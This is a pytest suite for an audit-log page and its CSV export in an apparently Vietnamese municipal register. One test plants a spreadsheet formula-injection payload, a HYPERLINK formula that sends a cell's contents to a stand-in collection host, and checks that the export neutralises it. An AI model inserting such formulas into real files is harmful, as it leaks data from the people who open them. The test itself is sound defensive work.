"""The audit page an inspector can use: Đà Nẵng times, actions in words in the page's language,
filters that survive paging, and a CSV export safe to open in Excel — on SQLite and PostgreSQL."""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

from fastapi.testclient import TestClient

import congvu
from congvu.register import audit
from congvu.register.review import TRANSITIONS
from congvu.register.store import Store
from congvu.web import i18n

SRC = Path(congvu.__file__).parent


def _append(store: Store, at: datetime, *events: audit.Event) -> None:
    with store.begin() as conn:
        audit.append(conn, at, list(events))


def _rows(html: str) -> list[str]:
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return re.findall(r"<tr>.*?</tr>", body, re.S)


def test_times_are_da_nang_time_and_actions_are_words(
    client_for: Callable[[str], TestClient], store: Store
) -> None:
    # 17:30 UTC on 24 June is 00:30 on 25 June in Đà Nẵng.
    _append(
        store,
        datetime(2014, 6, 24, 17, 30, tzinfo=UTC),
        audit.Event("khanhlq", "sheet.closed", "sheet", "HM:2014-06", None, {"closed": True}),
    )
    client = client_for("inspector")
    page = client.get("/audit?action=sheet.closed").text
    assert "25/06/2014 00:30" in page and "24/06/2014 17:30" not in page
    assert "Khóa bảng đánh giá tháng" in page and ">sheet.closed<" not in page
    english = client.get("/audit?action=sheet.closed&lang=en").text
    assert "Month&#39;s sheet closed" in english or "Month's sheet closed" in english
    assert "Evaluation sheet HM:2014-06" in english


def _audited_actions() -> set[str]:
    """Every action code `audit.Event(who, action, ...)` is given anywhere in congvu: literals,
    both arms of `a if c else b`, names bound to such, and `violation.<status>` from TRANSITIONS."""
    found: set[str] = set()
    for path in SRC.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        module: dict[str, ast.expr] = {  # module constants (ADOPTED = "policy.adopted")
            t.id: n.value
            for n in tree.body
            if isinstance(n, ast.Assign)
            for t in n.targets
            if isinstance(t, ast.Name)
        }
        for fn in ast.walk(tree):
            if not isinstance(fn, ast.FunctionDef):
                continue
            bound: dict[str, ast.expr] = module | {
                t.id: n.value
                for n in ast.walk(fn)
                if isinstance(n, ast.Assign)
                for t in n.targets
                if isinstance(t, ast.Name)
            }
            for call in ast.walk(fn):
                if not isinstance(call, ast.Call) or len(call.args) < 2:
                    continue
                if getattr(call.func, "attr", getattr(call.func, "id", "")) != "Event":
                    continue
                arg = call.args[1]
                if isinstance(arg, ast.Name):
                    arg = bound[arg.id]
                arms = [arg.body, arg.orelse] if isinstance(arg, ast.IfExp) else [arg]
                for arm in arms:
                    if isinstance(arm, ast.Constant):
                        found.add(arm.value)
                    elif isinstance(arm, ast.JoinedStr):  # f"violation.{target}"
                        found.update(f"violation.{target}" for _, target in TRANSITIONS.values())
                    else:
                        raise AssertionError(f"{path}: action not understood: {ast.dump(arm)}")
    return found


def test_every_action_the_register_writes_has_words_in_both_languages() -> None:
    actions = _audited_actions()
    assert {"violation.confirmed", "sheet.closed", "user.disabled", "violation.reopened"} <= actions
    for code in actions - {"violation.pending"}:  # reopen writes violation.reopened, not .pending
        vi, en = i18n.ACTIONS[code]
        assert vi and en and vi != en and "." not in vi, code


def test_filters_survive_paging(client_for: Callable[[str], TestClient], store: Store) -> None:
    at = datetime(2014, 6, 20, 2, 0, tzinfo=UTC)
    _append(
        store,
        at,
        *[
            audit.Event("hungnv", "evaluation.proposed", "evaluation", f"HM-{i:02d}:2014-06", None, {"r": i})
            for i in range(130)
        ],
    )
    _append(store, at, audit.Event("khanhlq", "evaluation.proposed", "evaluation", "HH-01:2014-06"))
    client = client_for("inspector")
    first = client.get("/audit?who=hungnv&action=evaluation.proposed")
    assert first.status_code == 200
    assert len(_rows(first.text)) == 100
    nxt = re.search(r'href="(/audit\?[^"]*page=1)"', first.text)
    assert nxt is not None
    link = nxt.group(1).replace("&amp;", "&")
    assert "who=hungnv" in link and "action=evaluation.proposed" in link
    second = client.get(link).text
    rows = _rows(second)
    assert len(rows) == 30 and all("hungnv" in r for r in rows)
    assert 'value="hungnv"' in second and 'value="evaluation.proposed" selected' in second
    assert not _rows(client.get("/audit?who=hungnv&entity=violation").text)


def test_date_range_is_in_da_nang_calendar_days(
    client_for: Callable[[str], TestClient], store: Store
) -> None:
    late = datetime(2014, 6, 9, 17, 15, tzinfo=UTC)  # 00:15 on 10/06 in Đà Nẵng
    _append(store, late, audit.Event("khanhlq", "site.mapped", "site", "hoaminh.danang.gov.vn"))
    client = client_for("inspector")
    assert "hoaminh.danang.gov.vn" in client.get("/audit?from=2014-06-10&to=2014-06-10").text
    assert "hoaminh.danang.gov.vn" not in client.get("/audit?from=2014-06-01&to=2014-06-09").text
    assert client.get("/audit?from=10/06/2014").status_code == 400


def test_csv_export_is_filtered_and_neutralises_formulas(
    client_for: Callable[[str], TestClient], store: Store
) -> None:
    reason = '=HYPERLINK("http://thu-thap.example/?d="&A1;"Xem chi tiết")'
    _append(
        store,
        datetime(2014, 6, 25, 3, 0, tzinfo=UTC),
        audit.Event("khanhlq", "user.disabled", "user", "-thaodt", None, None, reason),
        audit.Event("khanhlq", "user.enabled", "user", "anhnt"),
    )
    client = client_for("inspector")
    page = client.get("/audit?action=user.disabled").text
    href = re.search(r'href="(/audit\.csv[^"]*)"', page)
    assert href is not None and "action=user.disabled" in href.group(1)
    response = client.get(href.group(1).replace("&amp;", "&"))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "nhat-ky.csv" in response.headers["content-disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[0] == [
        "Thời điểm",
        "Người thực hiện",
        "Thao tác",
        "Mã thao tác",
        "Đối tượng",
        "Mã đối tượng",
        "Lý do",
    ]
    assert len(rows) == 2  # only the disabled account, not the enabled one
    when, who, action, code, entity, entity_id, why = rows[1]
    assert when == "2014-06-25T10:00:00+07:00" and who == "khanhlq"
    assert action == "Khóa tài khoản" and code == "user.disabled" and entity == "user"
    assert entity_id == "'-thaodt" and why == "'" + reason


def test_audit_is_for_inspectors_and_leaders_only(client_for: Callable[[str], TestClient]) -> None:
    for persona in ("head_hm", "staff_hm"):
        client = client_for(persona)
        assert client.get("/audit").status_code == 403
        assert client.get("/audit.csv").status_code == 403
    assert client_for("leader").get("/audit.csv").status_code == 200
